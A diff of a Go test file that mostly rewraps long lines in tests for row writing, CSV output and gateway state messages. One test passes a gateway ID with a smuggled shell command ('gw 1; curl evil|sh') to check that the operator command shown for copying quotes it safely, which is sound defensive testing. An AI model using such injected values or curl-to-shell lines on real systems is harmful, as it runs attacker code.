@@ -78,7 +78,8 @@ func TestChangeOf(t *testing.T) {
 	}
 }
 
-// Rows that are written one by one look as if they were written at once. What fails, a row or the writer, ends them with its error.
+// Rows that are written one by one look as if they were written at once. What fails, a row or the
+// writer, ends them with its error.
 func TestWriteRows(t *testing.T) {
 	t.Parallel()
 	broken := errors.New("broken")
@@ -100,7 +101,8 @@ func TestWriteRows(t *testing.T) {
 			if err := WriteRows(&got, format, list); err != nil || got.String() != want.String() {
 				t.Errorf("%v\n%s\nwant\n%s", err, got.String(), want.String())
 			}
-			if ofRow, ofWriter := WriteRows(&got, format, failing), WriteRows(pipe, format, list); ofRow != broken || ofWriter != broken {
+			if ofRow, ofWriter := WriteRows(&got, format, failing), WriteRows(pipe, format, list); ofRow != broken ||
+				ofWriter != broken {
 				t.Errorf("%s: a broken row: %v, a broken pipe: %v", format, ofRow, ofWriter)
 			}
 		}
@@ -111,7 +113,9 @@ func TestWriteRows(t *testing.T) {
 func TestUsageOrder(t *testing.T) {
 	t.Parallel()
 	key := id.Key{1}
-	_, order := Grouping{day, true, true, true}.of(keystore.UsageRow{Operation: "getPet", Key: key, Outcome: "ok", Hour: 3_600_000 * 30}, map[id.Key]string{key: "ci"})
+	_, order := Grouping{day, true, true, true}.of(
+		keystore.UsageRow{Operation: "getPet", Key: key, Outcome: "ok", Hour: 3_600_000 * 30},
+		map[id.Key]string{key: "ci"})
 	if want := [5]string{"1970-01-02T00:00:00Z", "getPet", "ci", key.String(), "ok"}; order != want {
 		t.Errorf("%q, want %q", order, want)
 	}
@@ -147,8 +151,8 @@ func TestCSVHasNoFormulas(t *testing.T) {
 	}
 }
 
-// Every state has its meaning, and what an operator has to end says how. The ID of a gateway, which the gateway itself writes, is one word of the
-// command to copy.
+// Every state has its meaning, and what an operator has to end says how. The ID of a gateway, which
+// the gateway itself writes, is one word of the command to copy.
 func TestGatewayStates(t *testing.T) {
 	t.Parallel()
 	const forget = "If its process has ended and will not come back: keyadmin gateway forget 'gw 1; curl evil|sh?'"
@@ -164,8 +168,10 @@ func TestGatewayStates(t *testing.T) {
 		{state: keystore.GatewayFenced, problem: "not seen for 5 s, " + fencedMeans, cure: "restart it"},
 		{state: keystore.GatewayReplaced, problem: replacedMeans, cure: "its own GATEWAY_ID. " + forget},
 	} {
-		means := slices.IndexFunc(GatewayStates, func(s struct{ State, Means string }) bool { return s.State == c.state })
-		problem, cure := GatewayTrouble(keystore.Gateway{ID: "gw 1; curl evil|sh\x1b", Age: 5000, MaxAge: c.maxAge}, c.state)
+		means := slices.IndexFunc(GatewayStates,
+			func(s struct{ State, Means string }) bool { return s.State == c.state })
+		problem, cure := GatewayTrouble(keystore.Gateway{ID: "gw 1; curl evil|sh\x1b", Age: 5000, MaxAge: c.maxAge},
+			c.state)
 		if means < 0 || problem != c.problem || !strings.Contains(cure, c.cure) {
 			t.Errorf("%s: %q, %q; want %q, %q", c.state, problem, cure, c.problem, c.cure)
 		}
